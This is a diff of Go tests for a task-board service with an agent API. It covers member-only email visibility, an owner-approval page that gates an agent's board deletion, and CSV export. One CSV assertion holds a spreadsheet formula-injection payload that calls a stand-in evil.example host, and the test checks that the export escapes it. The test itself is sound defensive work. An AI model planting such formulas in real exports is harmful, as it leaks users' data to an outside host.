@@ -3,6 +3,7 @@ package board_test
 import (
 	"bytes"
 	"encoding/json"
+	"html/template"
 	"io"
 	"net/http"
 	"net/http/cookiejar"
@@ -48,10 +49,24 @@ func onEachBackEnd(t *testing.T, test func(t *testing.T, backEnd string)) {
 	}
 }
 
-// newBoard serves a fresh, seeded board on backEnd.
+// newBoard serves a fresh, seeded board on backEnd that deletes a board
+// on an agent's confirm: true alone (NoApproval), as the bench runs it;
+// approvalBoard serves one as the demo runs it.
 func newBoard(t *testing.T, backEnd string) (*board.Board, *httptest.Server) {
 	t.Helper()
-	opts := &board.Options{DemoToken: demoToken}
+	return openBoard(t, backEnd, &board.Options{DemoToken: demoToken, NoApproval: true})
+}
+
+// approvalBoard serves a fresh, seeded board on backEnd whose deleteBoard
+// an agent's call runs only after the owner's approval, as the demo runs
+// it.
+func approvalBoard(t *testing.T, backEnd string) (*board.Board, *httptest.Server) {
+	t.Helper()
+	return openBoard(t, backEnd, &board.Options{DemoToken: demoToken})
+}
+
+func openBoard(t *testing.T, backEnd string, opts *board.Options) (*board.Board, *httptest.Server) {
+	t.Helper()
 	if backEnd == postgres {
 		opts.Database = servicetest.SharedPostgres(t).NewDatabase(t)
 	}
@@ -222,6 +237,43 @@ func testPrivacy(t *testing.T, backEnd string) {
 	}
 }
 
+// TestEmailsOnlyToMembers: members of a public board read each other's
+// email addresses in its graph, page, search and CSV; anyone else reads
+// their names only (issue 25).
+func TestEmailsOnlyToMembers(t *testing.T) { onEachBackEnd(t, testEmailsOnlyToMembers) }
+
+func testEmailsOnlyToMembers(t *testing.T, backEnd string) {
+	_, srv := newBoard(t, backEnd)
+	const page = "/boards/website-relaunch"
+	for _, tc := range []struct {
+		who    string
+		c      *client
+		emails bool
+	}{
+		{"anonymous", newClient(t, srv, ""), false},
+		{"alice, a member", newClient(t, srv, demoToken), true},
+	} {
+		_, g := tc.c.graph(page)
+		graph, _ := json.Marshal(g.Entities)
+		_, html := tc.c.page(page)
+		_, csv := tc.c.page(page + "/tasks.csv")
+		_, d := tc.c.call(page, "search", map[string]any{"q": "the"}, false)
+		found, _ := json.Marshal(d.Output)
+		for _, doc := range []struct{ name, body string }{
+			{"graph", string(graph)}, {"page", html}, {"CSV", csv}, {"search's output", string(found)},
+		} {
+			for _, name := range []string{"Bob", "Carol"} {
+				if !strings.Contains(doc.body, name) {
+					t.Errorf("%s: the %s does not name %s, a member", tc.who, doc.name, name)
+				}
+			}
+			if got := strings.Contains(doc.body, "carol@example.com"); got != tc.emails {
+				t.Errorf("%s: the %s shows carol@example.com: got %v, want %v\n%.2000s", tc.who, doc.name, got, tc.emails, doc.body)
+			}
+		}
+	}
+}
+
 // TestAgentTasks: an agent with alice's token creates, finds, moves and
 // deletes a task; a date that is not one, and an assignee who is no
 // member, are invalid input at their field.
@@ -328,7 +380,7 @@ func testAgentBoard(t *testing.T, backEnd string) {
 	}
 	resp, csv := alice.do(http.MethodGet, d.Redirect, "", nil)
 	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
-		!strings.HasPrefix(string(csv), "id,title,status,assignee,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,alice@example.com,") ||
+		!strings.HasPrefix(string(csv), "id,title,status,assignee,assignee_email,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,Alice,alice@example.com,") ||
 		!strings.Contains(string(csv), `,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",todo,`) {
 		t.Errorf("the CSV: got %d %q\n%s", resp.StatusCode, resp.Header.Get("Content-Type"), csv)
 	}
@@ -346,6 +398,66 @@ func testAgentBoard(t *testing.T, backEnd string) {
 	}
 	if status, _ := alice.graph(page); status != http.StatusNotFound {
 		t.Errorf("after deleteBoard the board answers %d, want 404", status)
+	}
+}
+
+// TestDeleteBoardNeedsApproval: on the board as the demo runs it, an
+// agent's confirm: true alone deletes no board (CLARIFICATIONS 10,
+// human-verified confirmation): the call gets the URL of an approval page,
+// where alice, signed in in her browser, reads the summary and approves;
+// then the same call deletes the board. Her own form's confirmation needs
+// no approval page.
+func TestDeleteBoardNeedsApproval(t *testing.T) { onEachBackEnd(t, testDeleteBoardNeedsApproval) }
+
+func testDeleteBoardNeedsApproval(t *testing.T, backEnd string) {
+	_, srv := approvalBoard(t, backEnd)
+	agent := newClient(t, srv, demoToken)
+	const page = "/boards/team-offsite"
+	const summary = `Delete the board "Team offsite" and its 5 tasks.`
+
+	var link string
+	for _, confirm := range []bool{false, true} {
+		status, d := agent.call(page, "deleteBoard", nil, confirm)
+		if status != http.StatusPreconditionRequired || d.Error == nil || d.Error.Code != affordances.ConfirmRequired ||
+			!strings.HasPrefix(d.Error.Message, summary) || d.Approval == nil || !strings.HasPrefix(d.Approval.URL, affordances.ApprovalsPath) {
+			t.Fatalf("deleteBoard with confirm %v, before any approval: got %d %+v, approval %+v; want 428 confirm_required, the summary and an approval page",
+				confirm, status, d.Error, d.Approval)
+		}
+		if link != "" && d.Approval.URL != link {
+			t.Errorf("the same call asked twice: approvals %s and %s, want one", link, d.Approval.URL)
+		}
+		link = d.Approval.URL
+	}
+	if status, _ := agent.graph(page); status != http.StatusOK {
+		t.Fatalf("the board before alice approved: got %d, want 200", status)
+	}
+
+	alice := newClient(t, srv, "")
+	if resp, _ := alice.post("/login", url.Values{"_action": {"signIn"}, "email": {board.DemoEmail}, "password": {board.DemoPassword}}); resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("alice signs in: got %d, want 303", resp.StatusCode)
+	}
+	if status, html := alice.page(link); status != http.StatusOK || !strings.Contains(html, template.HTMLEscapeString(summary)) {
+		t.Errorf("alice opens the approval page: got %d, want 200 and the summary\n%s", status, html)
+	}
+	if resp, html := alice.post(link, url.Values{"decision": {"approve"}}); resp.StatusCode != http.StatusOK || !strings.Contains(html, "Approved.") {
+		t.Fatalf("alice approves: got %d, want 200 and Approved.\n%s", resp.StatusCode, html)
+	}
+	if status, d := agent.call(page, "deleteBoard", nil, true); status != http.StatusOK || d.Redirect != "/boards" {
+		t.Fatalf("deleteBoard with confirm: true, approved: got %d %+v, want 200 and the redirect to /boards", status, d)
+	}
+	if status, _ := agent.graph(page); status != http.StatusNotFound {
+		t.Errorf("the board after the approved call: got %d, want 404", status)
+	}
+
+	const other = "/boards/website-relaunch"
+	if resp, html := alice.post(other, url.Values{"_action": {"deleteBoard"}}); resp.StatusCode != http.StatusOK || !strings.Contains(html, `name="_confirm"`) {
+		t.Fatalf("alice's form: got %d, want the confirmation page\n%s", resp.StatusCode, html)
+	}
+	if resp, _ := alice.post(other, url.Values{"_action": {"deleteBoard"}, "_confirm": {"yes"}}); resp.StatusCode != http.StatusSeeOther {
+		t.Errorf("alice confirms her own form: got %d, want 303, no approval page", resp.StatusCode)
+	}
+	if status, _ := agent.graph(other); status != http.StatusNotFound {
+		t.Errorf("the board alice deleted by her form: got %d, want 404", status)
 	}
 }
 
@@ -403,12 +515,13 @@ func testForms(t *testing.T, backEnd string) {
 	}
 }
 
-// TestConformance runs the conformance suite against a fresh board, with
-// writes and alice's token: every check passes or says why it skipped.
+// TestConformance runs the conformance suite against a fresh board as the
+// demo runs it, with writes and alice's token: every check passes or says
+// why it skipped.
 func TestConformance(t *testing.T) { onEachBackEnd(t, testConformance) }
 
 func testConformance(t *testing.T, backEnd string) {
-	_, srv := newBoard(t, backEnd)
+	_, srv := approvalBoard(t, backEnd)
 	rep := conformance.Run(t.Context(), srv.URL, &conformance.Options{Token: demoToken, AllowWrites: true})
 	for _, c := range rep.Checks {
 		switch c.Outcome {
